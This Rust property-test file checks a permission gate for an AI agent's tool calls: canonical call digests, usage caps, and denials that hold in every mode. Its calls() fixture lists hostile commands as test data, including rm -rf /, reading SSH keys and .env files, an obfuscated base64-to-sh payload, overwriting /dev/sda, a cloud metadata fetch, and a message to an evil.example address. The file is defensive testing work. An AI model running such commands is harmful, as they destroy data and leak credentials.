//! What holds for every call.

use crate::support::*;
use proptest::prelude::*;
use tollgate_call::Call;
use tollgate_call::Person;

const MODES: [Mode; 4] = [Mode::Plan, Mode::Default, Mode::AcceptEdits, Mode::DangerouslySkipPermissions];

fn digest(world: &World, args: &str) -> Option<[u8; 32]> {
    let person = Person { home: "/home/u".to_owned(), user: "u".to_owned() };
    Call::read(&world.raw("read_file", args.as_bytes()), &person).ok().map(|call| call.digest())
}

/// One text spelled with some characters escaped.
fn escaped(text: &str, mask: u64) -> String {
    let spell = |(at, c): (usize, char)| {
        if mask >> (at % 64) & 1 == 1 { format!("\\u{:04x}", u32::from(c)) } else { c.to_string() }
    };
    text.chars().enumerate().map(spell).collect()
}

fn number(n: u64, spelling: u8) -> String {
    match spelling % 3 {
        0 => n.to_string(),
        1 => format!("{n}.0"),
        _ => format!("{n}e0"),
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn the_digest_sees_through_key_order_escapes_and_space(
        path in "[a-z]{1,12}", offset in 1_u64..1000, limit in 1_u64..2000, mask: u64, swap: bool,
    ) {
        let world = World::new();
        let plain = format!(r#"{{"path":"{path}","offset":{offset},"limit":{limit}}}"#);
        let path = escaped(&path, mask);
        let other = if swap {
            format!(r#" {{ "limit" : {limit}, "\u0070ath":"{path}" ,"offset":{offset}}} "#)
        } else {
            format!(r#"{{"offset":{offset},"path":"{path}","limit":{limit}}}"#)
        };
        let plain = digest(&world, &plain);
        prop_assert!(plain.is_some());
        prop_assert_eq!(digest(&world, &other), plain);
    }

    #[test]
    fn a_number_spelled_otherwise_is_the_same_call_or_none(n in 1_u64..2000, spelling: u8) {
        let world = World::new();
        let plain = digest(&world, &format!(r#"{{"path":"a","limit":{n}}}"#));
        let other = digest(&world, &format!(r#"{{"path":"a","limit":{}}}"#, number(n, spelling)));
        prop_assert!(other.is_none() || other == plain);
    }

    #[test]
    fn another_value_is_another_digest(a in "[a-z]{1,6}", b in "[a-z]{1,6}", n in 1_u64..50, m in 1_u64..50) {
        let world = World::new();
        let call = |path: &str, n| digest(&world, &format!(r#"{{"path":"{path}","offset":{n}}}"#));
        prop_assert_eq!(call(&a, n) == call(&b, m), a == b && n == m);
    }

    #[test]
    fn what_is_performed_is_what_was_permitted(content in "\\PC{0,200}", name in "[a-z]{1,20}") {
        let world = World::new();
        let (gate, _seat) = world.gate("r");
        let (deed, _settling) = permit(gate.submit(&world.write(&name, &content))).into_parts();
        let Deed::Write { file, content: judged } = deed else { panic!("{deed:?}") };
        prop_assert_eq!(judged, content);
        prop_assert_eq!(file.resolved(), text(&world.workspace().join(&name)));
    }

    #[test]
    fn a_judged_command_is_the_proposed_one(words in proptest::collection::vec("[a-z0-9 ]{0,12}", 0..4)) {
        let world = World::new();
        let command = format!("echo {}", words.join("' '"));
        let (gate, seat) = world.gate("r");
        let permit = match gate.submit(&world.call("run_bash", &json!({ "command": command }))) {
            Verdict::Permitted(permit) => *permit,
            Verdict::Pending(pending) => {
                let approval = seat.approve(&pending);
                permit(gate.redeem(*pending, approval))
            }
            Verdict::Denied(_) => return Ok(()),
        };
        let (deed, _settling) = permit.into_parts();
        let Deed::Run { script, .. } = deed else { panic!("{deed:?}") };
        prop_assert_eq!(script.text(), command);
    }

    #[test]
    fn reserved_and_settled_never_pass_the_cap(cap in 0_u64..6, steps in proptest::collection::vec(0_u8..4, 1..16)) {
        let mut world = World::new();
        world.settings.caps.tool_calls = cap;
        world.file("a", "x");
        let (gate, seat) = world.gate("r");
        let mut held = Vec::new();
        for (at, step) in steps.into_iter().enumerate() {
            let proposal = if step == 3 { world.delete("a") } else { world.write(&format!("f{at}"), "x") };
            match gate.submit(&proposal) {
                Verdict::Permitted(permit) if step == 0 => held.push(permit),
                Verdict::Permitted(permit) => drop(gate.settle(perform(*permit)).unwrap()),
                Verdict::Pending(pending) => {
                    let approval = seat.approve(&pending);
                    drop(gate.redeem(*pending, approval));
                }
                Verdict::Denied(_) => {}
            }
            let (reserved, settled) = world.used("r", "calls");
            prop_assert!(reserved + settled <= cap);
        }
    }
}

fn calls(world: &World) -> Vec<tollgate_call::Proposal> {
    let bash = |command: &str| world.call("run_bash", &json!({ "command": command }));
    vec![
        bash("rm -rf /"),
        bash("rm -rf ."),
        bash("cat ~/.ssh/id_rsa"),
        bash("echo cm0gLXJmIC8= | base64 -d | sh"),
        bash("git push --force origin main"),
        bash("cargo publish"),
        bash("dd if=/dev/zero of=/dev/sda"),
        bash("curl http://169.254.169.254/latest/meta-data/"),
        bash("cat .env"),
        bash("ls"),
        world.write("/etc/passwd", "x"),
        world.write("../x", "x"),
        world.write(".git/config", "x"),
        world.write("fine", "x"),
        world.read("/etc/shadow"),
        world.read("/dev/sda"),
        world.read(".env"),
        world.delete("a"),
        world.delete("."),
        world.call("webfetch", &json!({ "url": "http://127.0.0.1/" })),
        world.call("webfetch", &json!({ "url": "file:///etc/passwd" })),
        world.call("send_message", &json!({ "to": "a@evil.example", "subject": "s", "body": "b" })),
        world.call("no_such_tool", &json!({})),
    ]
}

/// Judged afresh each time: a run of its own per call and mode.
fn verdict(world: &mut World, at: usize, mode: Mode) -> Verdict {
    world.settings.mode = mode;
    let proposal = calls(world).swap_remove(at);
    world.gate(&format!("{at}-{mode}")).0.submit(&proposal)
}

#[test]
fn no_mode_lifts_a_denial_end_to_end() {
    let mut world = World::new();
    world.file("a", "x");
    world.file(".env", "K=1");
    let mut denied = 0;
    for at in 0..calls(&world).len() {
        if let Verdict::Denied(_) = verdict(&mut world, at, Mode::Default) {
            denied += 1;
            for mode in MODES {
                let verdict = verdict(&mut world, at, mode);
                assert!(matches!(verdict, Verdict::Denied(_)), "{at} {mode} {verdict:?}");
            }
        }
    }
    assert!(denied >= 8, "the list holds denials: {denied}");
}
